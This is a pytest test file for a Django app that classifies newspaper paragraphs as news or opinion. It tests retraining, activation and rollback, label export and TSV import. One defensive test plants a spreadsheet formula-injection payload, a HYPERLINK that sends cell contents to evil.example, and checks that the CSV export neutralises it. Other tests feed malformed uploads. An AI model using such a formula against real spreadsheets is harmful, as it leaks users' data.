import csv
import io
import json

import pytest
from django.core.exceptions import ValidationError
from django.core.management import CommandError, call_command
from django.urls import reverse

from stance import jobs, selectors
from stance.models import Job, Label, ModelVersion, Prediction, TrainingSet
from stance.services.labels import label_create
from stance.services.versions import model_activate, model_discard, model_train
from tests.factories import NEWS, OPINION, make_classified_article

pytestmark = pytest.mark.django_db


@pytest.fixture
def labelled(active_classifier, editor):
    """An article whose paragraphs an editor has labelled (enough to cross-validate)."""
    texts = NEWS[:8] + OPINION[:8]
    article = make_classified_article("\n\n".join(texts))
    for paragraph, value in zip(
        article.paragraphs.order_by("position"), ["news"] * 8 + ["opinion"] * 8, strict=True
    ):
        label_create(paragraph=paragraph, editor=editor, label=value)
    return article


def test_retraining_makes_a_candidate_compared_on_editor_labels_it_did_not_see(labelled, data_lead):
    job = jobs.candidate_train_start(user=data_lead)
    assert job.status == Job.Status.DONE and job.progress == 1.0
    candidate = job.version
    assert candidate.number == 2 and not candidate.is_active
    assert candidate.training_summary["sources"]["editor labels"] == 16
    evaluation = candidate.metrics["editor_eval"]
    assert evaluation["n"] == 16
    # Scored on all 16 editor labels, each by a fold that did not train on it; their texts
    # are also in the tiny starter corpus, so a working evaluation scores them well.
    assert sum(map(sum, evaluation["candidate"]["confusion"])) == 16
    assert evaluation["candidate"]["macro_f1"] >= 0.9
    assert evaluation["active_version"] == 1 and "macro_f1" in evaluation["active"]
    assert candidate.training_summary["flips"]["compared"] == 16


def test_a_failed_retrain_leaves_the_active_version_and_can_be_retried(
    labelled, data_lead, settings, tmp_path
):
    good = settings.STANCE_STARTER_CORPUS
    settings.STANCE_STARTER_CORPUS = tmp_path / "missing.tsv"
    job = jobs.candidate_train_start(user=data_lead)
    assert job.status == Job.Status.FAILED and "missing.tsv" in job.error
    assert ModelVersion.objects.get(is_active=True).number == 1
    assert ModelVersion.objects.filter(status="failed").count() == 1
    settings.STANCE_STARTER_CORPUS = good
    assert jobs.candidate_train_start(user=data_lead).status == Job.Status.DONE


def test_activating_refreshes_stored_predictions_and_rollback_is_one_click(
    labelled, data_lead, client, django_capture_on_commit_callbacks
):
    client.force_login(data_lead)
    candidate = jobs.candidate_train_start(user=data_lead).version
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("model-activate", args=[candidate.pk]))
    assert response.status_code == 302
    assert ModelVersion.objects.get(is_active=True) == candidate
    assert Prediction.objects.filter(version=candidate).count() == 16
    refresh = Job.objects.filter(kind=Job.Kind.REFRESH).get()
    assert refresh.status == Job.Status.DONE and refresh.version == candidate
    first = ModelVersion.objects.get(number=1)
    client.post(reverse("model-activate", args=[first.pk]))
    assert ModelVersion.objects.get(is_active=True) == first
    assert ModelVersion.objects.filter(is_active=True).count() == 1


def test_a_candidate_can_be_discarded_but_not_the_active_version(labelled, data_lead, client):
    client.force_login(data_lead)
    candidate = jobs.candidate_train_start(user=data_lead).version
    client.post(reverse("model-discard", args=[candidate.pk]))
    candidate.refresh_from_db()
    assert candidate.status == "discarded"
    active = ModelVersion.objects.get(is_active=True)
    client.post(reverse("model-discard", args=[active.pk]))
    active.refresh_from_db()
    assert active.status == "ready" and active.is_active


def test_a_version_discarded_while_it_trains_stays_discarded(labelled, data_lead):
    def discard_midway(message, fraction):
        if message.startswith("Training on"):
            model_discard(version=ModelVersion.objects.get(status="training"))

    version = model_train(progress=discard_midway, activate=True)
    assert version.status == "discarded" and not version.is_active
    assert ModelVersion.objects.get(is_active=True).number == 1
    with pytest.raises(ValidationError, match="not ready"):
        model_activate(version=version)
    version.refresh_from_db()
    assert version.status == "discarded"


def test_a_candidate_discarded_while_its_job_trains_is_not_evaluated(
    labelled, data_lead, monkeypatch
):
    job = Job.objects.create(kind=Job.Kind.TRAIN, created_by=data_lead)
    original = selectors.training_data

    def training_data(**kwargs):  # the data lead presses Discard while the job gathers data
        model_discard(version=ModelVersion.objects.get(status="training"))
        return original(**kwargs)

    monkeypatch.setattr(selectors, "training_data", training_data)
    job = jobs.candidate_train(job=job)
    assert job.status == Job.Status.DONE
    assert job.version.status == "discarded" and "editor_eval" not in job.version.metrics


def test_the_models_page_shows_progress_then_the_comparison(labelled, data_lead, client):
    client.force_login(data_lead)
    response = client.post(reverse("model-retrain"), headers={"HX-Request": "true"})
    page = response.content.decode()
    assert 'id="workspace"' in page and "Candidate" in page and "would flip" in page
    job = Job.objects.get()
    partial = client.get(reverse("job-status", args=[job.pk]) + "?was=running")
    assert "jobFinished" in partial["HX-Trigger"]
    running = Job.objects.create(
        kind=Job.Kind.TRAIN, status=Job.Status.RUNNING, progress=0.4, message="Training"
    )
    page = client.get(reverse("job-status", args=[running.pk])).content.decode()
    assert 'hx-trigger="every 1s"' in page and "40%" in page


def test_editors_cannot_retrain_or_activate(editor_client, labelled):
    assert editor_client.post(reverse("model-retrain")).status_code == 403
    version = ModelVersion.objects.get()
    assert editor_client.post(reverse("model-activate", args=[version.pk])).status_code == 403
    assert editor_client.get(reverse("models")).status_code == 200  # they may look


def test_labels_export_as_csv_and_json_lines(labelled, editor_client):
    csv_body = b"".join(editor_client.get(reverse("labels-export", args=["csv"])).streaming_content)
    lines = csv_body.decode().splitlines()
    assert lines[0].startswith("paragraph_id,article_id,text,label,action")
    assert len(lines) == 17
    response = editor_client.get(reverse("labels-export", args=["jsonl"]))
    rows = [json.loads(line) for line in b"".join(response.streaming_content).decode().splitlines()]
    assert rows[0]["editor"] == "ed" and rows[0]["model_version"] == 1
    assert editor_client.get(reverse("labels-export", args=["xml"])).status_code == 404


def test_the_csv_export_never_hands_a_spreadsheet_a_formula(active_classifier, editor_client):
    article = make_classified_article("-1+1 is how the column began.\n\nA second paragraph.")
    paragraph = article.paragraphs.get(position=1)
    note = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    editor_client.post(
        reverse("paragraph-label", args=[paragraph.pk]), {"label": "news", "note": note}
    )
    body = editor_client.get(reverse("labels-export", args=["csv"])).streaming_content
    (row,) = list(csv.DictReader(io.StringIO(b"".join(body).decode())))
    assert row["note"] == "'" + note
    assert row["text"] == "'-1+1 is how the column began."
    assert row["label"] == "news"


def test_importing_a_tsv_in_the_browser_joins_the_next_retrain(labelled, data_lead, client):
    client.force_login(data_lead)
    good = io.BytesIO(b"id\ttext\tlabel\na\tThe vote was 5-4.\tnews\nb\tWhat a farce.\topinion\n")
    good.name = "desk.tsv"
    client.post(reverse("training-set-import"), {"tsv": good})
    assert TrainingSet.objects.get().rows == 2
    bad = io.BytesIO(b"id\ttext\tlabel\na\tx\tmaybe\n")
    bad.name = "bad.tsv"
    response = client.post(reverse("training-set-import"), {"tsv": bad}, follow=True)
    assert "bad.tsv" in response.content.decode() and TrainingSet.objects.count() == 1
    version = jobs.candidate_train_start(user=data_lead).version
    assert version.training_summary["sources"]["imported: desk.tsv"] == 2


def import_tsv(client, name: str, body: bytes):
    upload = io.BytesIO(body)
    upload.name = name
    response = client.post(reverse("training-set-import"), {"tsv": upload}, follow=True)
    assert response.status_code == 200
    return response.content.decode()


HEADER = b"id\ttext\tlabel\n"


@pytest.mark.parametrize(
    ("body", "message"),
    [
        (HEADER + b"a\t" + b"word " * 30_000 + b"\tnews\n", "line 2 is 150,007 characters long"),
        (HEADER + b"a\tok\tnews\nb\tnul \x00 here\topinion\n", "line 3 contains a NUL byte"),
        (HEADER + b"a\t\xff\xfe\tnews\n", "is not UTF-8 text"),
        (HEADER + b'a\t"unclosed' + b"x" * 140_000 + b"\tnews\n", "characters long"),
    ],
    ids=["row-over-the-limit", "nul-byte", "not-utf8", "csv-field-limit"],
)
def test_a_bad_training_set_is_refused_with_a_message(data_lead, client, body, message):
    client.force_login(data_lead)
    page = import_tsv(client, "hostile.tsv", body)
    assert "hostile.tsv" in page and message in page
    assert not TrainingSet.objects.exists()


def test_a_training_set_over_the_size_cap_is_refused_unread(data_lead, client, settings):
    settings.STANCE_TRAINING_SET_MAX_BYTES = 1000
    client.force_login(data_lead)
    page = import_tsv(client, "big.tsv", HEADER + b"a\tThe vote was 5-4.\tnews\n" * 50)
    assert "larger than" in page and "big.tsv" in page
    assert not TrainingSet.objects.exists()
    page = import_tsv(client, "small.tsv", HEADER + b"a\tThe vote was 5-4.\tnews\n" * 10)
    assert TrainingSet.objects.get().rows == 10


def test_import_training_tsv_refuses_an_oversized_or_hostile_file(db, tmp_path, settings):
    settings.STANCE_TRAINING_SET_MAX_BYTES = 1000
    big = tmp_path / "big.tsv"
    big.write_bytes(HEADER + b"a\tThe vote was 5-4.\tnews\n" * 50)
    with pytest.raises(CommandError, match="larger than"):
        call_command("import_training_tsv", "--tsv", str(big))
    nul = tmp_path / "nul.tsv"
    nul.write_bytes(HEADER + b"a\tThe \x00 vote.\tnews\n")
    with pytest.raises(CommandError, match="line 2 contains a NUL byte"):
        call_command("import_training_tsv", "--tsv", str(nul))
    assert not TrainingSet.objects.exists()


def test_the_label_command_uses_the_same_service(labelled, editor):
    paragraph = labelled.paragraphs.first()
    out = io.StringIO()
    call_command(
        "label",
        "--paragraph",
        paragraph.pk,
        "--label",
        "opinion",
        "--editor",
        "ed",
        "--note",
        "n",
        stdout=out,
    )
    assert "opinion by ed" in out.getvalue()
    assert Label.objects.filter(paragraph=paragraph).last().note == "n"
    with pytest.raises(CommandError, match="No paragraph"):
        call_command("label", "--paragraph", 999999, "--label", "news", "--editor", "ed")
    with pytest.raises(CommandError, match="Unknown label"):
        call_command("label", "--paragraph", paragraph.pk, "--label", "maybe", "--editor", "ed")
    with pytest.raises(CommandError, match="No user"):
        call_command("label", "--paragraph", paragraph.pk, "--label", "news", "--editor", "ghost")


def test_export_labels_writes_each_label_with_what_the_model_said(labelled, tmp_path):
    target = tmp_path / "labels.jsonl"
    call_command("export_labels", "--output", str(target), stderr=io.StringIO())
    rows = [json.loads(line) for line in target.read_text().splitlines()]
    # a label's line: the label columns of the export (README), then what the line is
    assert [list(row) for row in rows] == [[*selectors.EXPORT_FIELDS, "record"]] * 16
    paragraph = labelled.paragraphs.order_by("position").first()
    said = Prediction.objects.get(paragraph=paragraph)
    assert rows[0] == {
        **rows[0],
        "paragraph_id": paragraph.pk,
        "article_id": labelled.pk,
        "text": paragraph.text,
        "label": "news",
        "action": "correct",
        "undoes": None,
        "editor": "ed",
        "model_version": said.version.number,
        "model_label": said.label,
        "p_opinion": said.p_opinion,
        "record": "label",
    }


def test_train_classifier_reports_the_editor_labels_it_used(labelled):
    out = io.StringIO()
    call_command("train_classifier", stdout=out, stderr=io.StringIO())
    assert "editor labels" in out.getvalue() and "16" in out.getvalue()
